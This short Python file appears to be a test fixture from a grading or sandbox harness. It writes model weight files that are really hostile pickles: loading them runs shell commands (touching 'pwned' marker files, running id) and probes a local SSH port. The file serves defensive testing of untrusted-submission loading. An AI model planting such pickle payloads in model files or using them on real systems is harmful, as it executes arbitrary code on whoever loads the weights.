"""Weights whose unpickling runs commands, opens sockets and writes files."""

import pickle

from tests.attacks.building import honest_copy


class Run:
    def __reduce__(self):
        code = (
            "import os, socket\n"
            "os.system('touch /tmp/pwned /submission/pwned; id')\n"
            "try: socket.create_connection(('127.0.0.1', 22), 1)\n"
            "except OSError: pass\n"
        )
        return exec, (code,)


def make(folder):
    honest_copy(folder)
    for net in ("mlp", "cnn"):
        (folder / f"classifier_{net}.model").write_bytes(pickle.dumps(Run()))
